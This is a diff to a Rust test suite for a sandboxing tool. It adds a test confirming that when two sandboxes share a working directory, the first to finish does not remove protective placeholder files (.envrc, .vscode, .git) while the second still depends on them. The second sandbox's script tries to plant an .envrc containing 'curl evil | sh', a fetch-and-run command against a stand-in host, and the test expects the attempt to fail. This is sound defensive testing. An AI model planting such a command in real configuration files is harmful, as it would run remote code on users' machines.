@@ -337,7 +337,8 @@ pub fn placeholders_are_removed_on_every_ending(ctx: &Ctx) -> Result<(), String>
     // dropped without release: the command never runs
     let spec = ctx.spec(&cwd, "true");
     let (sandbox, _sockets) = Sandbox::start(&ctx.exe, &spec).map_err(|e| format!("start: {e:?}"))?;
-    check(cwd.join(".envrc").exists() && cwd.join(".vscode").is_dir(), "placeholders exist during the run", "")?;
+    check(cwd.join(".envrc").is_file() && cwd.join(".vscode").is_file(), "placeholders exist during the run", "")?;
+    check(cwd.join(".git").is_dir(), "a .git placeholder is a directory", "")?;
     drop(sandbox);
     left("drop")?;
     // setup fails after the mounts (the command is not found inside)
@@ -357,4 +358,40 @@ pub fn placeholders_are_removed_on_every_ending(ctx: &Ctx) -> Result<(), String>
     check(fs::read_to_string(cwd.join(".envrc")).is_ok_and(|s| s == "host's own"), "the host's file was removed", "")?;
     fs::remove_file(cwd.join(".envrc")).map_err(|e| e.to_string())?;
     left("after a run")
+}
+
+/// Two sandboxes in one directory: the first to end must not remove the placeholders the
+/// other still stands on (that would unmount its protection and let its command plant them).
+pub fn a_concurrent_sandbox_keeps_its_placeholders(ctx: &Ctx) -> Result<(), String> {
+    let cwd = ctx.workdir("concurrent");
+    let mut first = ctx.spec(&cwd, "");
+    first.args = vec!["-c".into(), "true".into()];
+    let script = r#"
+i=0; while [ ! -e go ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
+echo waited=$i
+echo 'curl evil | sh' > .envrc 2>/dev/null; echo envrc=$?
+rm -f .envrc 2>/dev/null; echo rm_envrc=$?
+mkdir .vscode 2>/dev/null; echo vscode=$?
+"#;
+    let second = ctx.spec(&cwd, script);
+    let (mut a, _a_sockets) = Sandbox::start(&ctx.exe, &first).map_err(|e| format!("start A: {e:?}"))?;
+    let (mut b, _b_sockets) = Sandbox::start(&ctx.exe, &second).map_err(|e| format!("start B: {e:?}"))?;
+    b.release().map_err(|e| format!("release B: {e:?}"))?;
+    a.release().map_err(|e| format!("release A: {e:?}"))?;
+    a.wait().map_err(|e| format!("wait A: {e:?}"))?;
+    let kept = cwd.join(".envrc").exists();
+    fs::write(cwd.join("go"), "").map_err(|e| e.to_string())?;
+    let status = b.wait().map_err(|e| format!("wait B: {e:?}"))?;
+    let out = fs::read_to_string(cwd.join("out.txt")).unwrap_or_default();
+    expect_success(status, &out)?;
+    check(kept, "the first sandbox removed a placeholder the second one still used", &out)?;
+    let got = lines(&out);
+    for key in ["envrc", "rm_envrc", "vscode"] {
+        check(got.get(key).is_some_and(|c| c != "0"), &format!("{key} must fail"), &out)?;
+    }
+    check(fs::read_to_string(cwd.join(".envrc")).map_or(true, |s| s.is_empty()), ".envrc planted", &out)?;
+    for name in [".envrc", ".vscode", ".git"] {
+        check(!cwd.join(name).exists(), &format!("{name} left behind after both"), &out)?;
+    }
+    Ok(())
 }
